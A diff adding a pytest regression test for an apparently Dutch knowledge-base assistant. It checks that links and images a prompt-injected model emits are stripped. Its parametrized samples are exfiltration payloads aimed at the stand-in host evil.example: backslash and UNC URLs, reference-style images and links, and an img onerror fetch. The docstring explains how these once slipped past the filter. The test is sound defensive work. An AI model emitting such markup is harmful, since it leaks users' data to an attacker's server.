@@ -245,3 +245,29 @@ def test_a_model_that_obeys_an_injection_gets_no_outside_link_or_image_through(l
     assert "40 euro per dag" in streamed and "evil.example" not in streamed and "](http" not in streamed
     assert LINKS_REMOVED in answer.warnings
     assert "evil.example" not in " ".join(answer.warnings)
+
+
+@pytest.mark.parametrize(
+    "smuggled",
+    [
+        '<img src="https:\\\\evil.example\\b.png?d=40euro">',
+        "Zie \\\\evil.example\\d.png",
+        "![kaart][1]\n\n[1]: https:\\\\evil.example\\c.png",
+        "<img src=x onerror=fetch('//evil.example')>",
+        "[meer uitleg][bron] [1].\n[bron]: //evil.example/e 'titel'",
+    ],
+    ids=["backslash-url-in-img", "unc-path", "reference-image", "raw-img-onerror", "reference-link"],
+)
+def test_backslash_urls_reference_images_and_html_tags_do_not_get_through(llm, smuggled: str):
+    """Regression (#18, item 4): an obeying model wrote "https:\\\\evil.example\\b.png", a
+    reference image with its definition and a raw <img onerror>; all survived the filter, in
+    the answer and the stream, and a browser fetched the address. A backslash now counts as a
+    slash, and HTML tags and reference definitions are removed."""
+    kennisbank, server = llm
+    server.reply(f"Een podium huren kost 40 euro per dag [1]. {smuggled} [1].")
+    pieces = list(kennisbank.ask_stream(PODIUM_QUESTION, caller=PUBLIC, channel="openai"))
+    streamed, answer = "".join(pieces[:-1]), pieces[-1]
+    assert "40 euro per dag" in answer.answer
+    for text in (streamed, answer.answer, " ".join(answer.warnings)):
+        assert "evil.example" not in text and "<img" not in text and "![" not in text and "]:" not in text
+    assert LINKS_REMOVED in answer.warnings
